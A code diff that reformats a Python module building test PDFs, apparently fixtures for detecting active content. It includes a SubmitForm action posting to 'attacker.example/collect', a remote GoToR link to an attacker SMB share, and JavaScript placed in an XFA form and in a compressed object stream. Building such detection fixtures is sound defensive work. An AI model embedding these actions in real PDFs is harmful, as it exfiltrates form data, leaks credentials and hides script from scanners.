@@ -47,8 +47,9 @@ def plain() -> bytes:
 
 def link_to_a_website() -> bytes:
     """A link the reader follows only when clicked: passive."""
-    return _with(annotation=_dict(Subtype=_n("/Link"), A=_dict(S=_n("/URI"),
-                                                                 URI=TextStringObject("https://example.vn/"))))
+    return _with(
+        annotation=_dict(Subtype=_n("/Link"), A=_dict(S=_n("/URI"), URI=TextStringObject("https://example.vn/")))
+    )
 
 
 def open_action_uri() -> bytes:
@@ -65,14 +66,24 @@ def page_open_uri() -> bytes:
 
 def submit_form() -> bytes:
     target = _dict(FS=_n("/URL"), F=TextStringObject("https://attacker.example/collect"))
-    return _with(annotation=_dict(Subtype=_n("/Widget"), FT=_n("/Btn"), T=TextStringObject("gui"),
-                                  A=_dict(S=_n("/SubmitForm"), F=target)))
+    return _with(
+        annotation=_dict(
+            Subtype=_n("/Widget"), FT=_n("/Btn"), T=TextStringObject("gui"), A=_dict(S=_n("/SubmitForm"), F=target)
+        )
+    )
 
 
 def goto_remote_network_path() -> bytes:
-    return _with(annotation=_dict(Subtype=_n("/Link"), A=_dict(
-        S=_n("/GoToR"), F=TextStringObject("\\\\attacker.example\\share\\bao-gia.pdf"),
-        D=ArrayObject([FloatObject(0), _n("/Fit")]))))
+    return _with(
+        annotation=_dict(
+            Subtype=_n("/Link"),
+            A=_dict(
+                S=_n("/GoToR"),
+                F=TextStringObject("\\\\attacker.example\\share\\bao-gia.pdf"),
+                D=ArrayObject([FloatObject(0), _n("/Fit")]),
+            ),
+        )
+    )
 
 
 def launch() -> bytes:
@@ -89,9 +100,11 @@ def rich_media() -> bytes:
 
 def xfa_form_with_script() -> bytes:
     xfa = DecodedStreamObject()
-    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
-                 b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
-                 b"</template></xdp:xdp>")
+    xfa.set_data(
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
+        b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
+        b"</template></xdp:xdp>"
+    )
     writer = PdfWriter()
     writer.add_blank_page(595, 842)
     writer._root_object[_n("/AcroForm")] = _dict(Fields=ArrayObject(), XFA=writer._add_object(xfa))
@@ -110,7 +123,7 @@ def javascript_in_a_compressed_object_stream() -> bytes:
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
         4: b"<< /Length 0 >>\nstream\n\nendstream",
         6: b"<< /Type /ObjStm /N 1 /First %d /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream"
-           % (len(header), len(body), body),
+        % (len(header), len(body), body),
     }
     out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
     offsets = {}
@@ -127,8 +140,10 @@ def javascript_in_a_compressed_object_stream() -> bytes:
         else:
             rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
     table = b"".join(rows)
-    out += (b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
-            % (len(table), table))
+    out += b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
+        len(table),
+        table,
+    )
     out += b"startxref\n%d\n%%%%EOF\n" % xref_at
     return out
 
